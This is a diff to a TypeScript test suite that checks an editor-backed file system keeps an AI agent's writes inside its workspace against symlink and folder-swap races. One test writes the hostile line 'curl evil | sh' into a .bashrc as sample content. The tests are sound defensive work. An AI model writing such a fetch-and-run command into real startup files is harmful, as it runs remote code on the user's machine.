@@ -7,6 +7,7 @@ import {
   mkdirSync,
   mkdtempSync,
   readFileSync,
+  renameSync,
   rmSync,
   symlinkSync,
   unlinkSync,
@@ -64,7 +65,7 @@ describe("fs/* reaches the file its check saw", () => {
     });
     const fileSystem = new ClientFileSystem(() => paths, {
       openText: () => undefined,
-      writeOpen: () => Promise.resolve(false),
+      showWritten: () => Promise.resolve(),
     });
     const callbacks = clientCallbacks({
       scopeOf: () => ({ route: () => ({}) }) as unknown as ConnectionScope,
@@ -144,22 +145,36 @@ describe("fs/* through a document open in the editor", () => {
 
   afterEach(() => rmSync(base, { recursive: true, force: true }));
 
-  /** The file system over `ws` with an editor holding `documents` (path → text); saving writes by name, as it does. */
-  function withEditor(documents: Map<string, string>) {
+  /**
+   * The file system over `ws` with an editor holding `documents` (path → text). `beforeSave` runs when the editor is
+   * asked to save, which writes by name and follows links, as the editor's save does: there a process of the agent's
+   * can change the path after every check was made.
+   */
+  function withEditor(documents: Map<string, string>, beforeSave: () => void = () => undefined) {
     const boundary = new PolicyBoundary([ws], { home: join(base, "home"), caseInsensitive: () => false });
-    const fs = new ClientFileSystem(() => boundary, {
-      openText: (path) => documents.get(path),
-      writeOpen: (path, content) => {
+    const editor = {
+      openText: (path: string) => documents.get(path),
+      showWritten: (path: string, content: string) => {
+        if (documents.has(path)) documents.set(path, content);
+        return Promise.resolve();
+      },
+      writeOpen: (path: string, content: string) => {
         if (!documents.has(path)) return Promise.resolve(false);
+        beforeSave();
         documents.set(path, content);
         writeFileSync(path, content);
         return Promise.resolve(true);
       },
-    });
+    };
+    const fs = new ClientFileSystem(() => boundary, editor);
     const checked = (path: string) => boundary.resolveInside(path) ?? "";
     return {
       read: (path: string) => fs.read({ path }, checked(path)),
-      write: (path: string, content: string) => fs.write({ path, content }, checked(path)),
+      write: (path: string, content: string, afterCheck: () => void = () => undefined) => {
+        const checkedPath = checked(path);
+        afterCheck();
+        return fs.write({ path, content }, checkedPath);
+      },
     };
   }
 
@@ -174,22 +189,32 @@ describe("fs/* through a document open in the editor", () => {
     assert.equal(readFileSync(key, "utf8"), "SECRET\n", "the file outside was not written");
   });
 
-  it("does not save a document whose name became a link after the check: the editor would follow it outside", async () => {
+  it("does not write a document whose name became a link after the check: it would lead outside", async () => {
     const named = join(ws, "new.txt");
     const target = join(outside, "planted");
-    const documents = new Map([[named, ""]]);
-    const fs = withEditor(documents);
-    const realGet = documents.get.bind(documents);
-    // After the check: what a process of the agent's could do before the editor saves.
-    documents.get = (path) => {
-      if (!existsSync(named)) symlinkSync(target, named);
-      return realGet(path);
-    };
-    await assert.rejects(fs.write(named, "written\n"));
+    const fs = withEditor(new Map([[named, ""]]));
+    // After the check: what a process of the agent's could do before the write.
+    await assert.rejects(fs.write(named, "written\n", () => symlinkSync(target, named)));
     assert.equal(existsSync(target), false, "nothing was written through the link");
   });
 
-  it("still serves an open document's unsaved text and writes through it", async () => {
+  it("writes an open document's file itself: the editor's save follows a folder swapped for a link meanwhile", async () => {
+    mkdirSync(join(ws, "src"));
+    const named = join(ws, "src", ".bashrc");
+    writeFileSync(named, "# the project's\n");
+    const documents = new Map([[named, "# the project's\n"]]);
+    const fs = withEditor(documents, () => {
+      // A process of the agent's swaps `src` for a link to another folder between the checks and the save.
+      renameSync(join(ws, "src"), join(ws, "src-moved"));
+      symlinkSync(outside, join(ws, "src"));
+    });
+    await fs.write(named, "curl evil | sh\n");
+    assert.equal(existsSync(join(outside, ".bashrc")), false, "nothing was written outside the workspace");
+    assert.equal(readFileSync(named, "utf8"), "curl evil | sh\n", "the checked file was written");
+    assert.equal(documents.get(named), "curl evil | sh\n", "the open document shows what was written");
+  });
+
+  it("still serves an open document's unsaved text and shows what is written", async () => {
     const named = join(ws, "notes.txt");
     writeFileSync(named, "saved\n");
     const documents = new Map([[named, "unsaved\nsecond\n"]]);
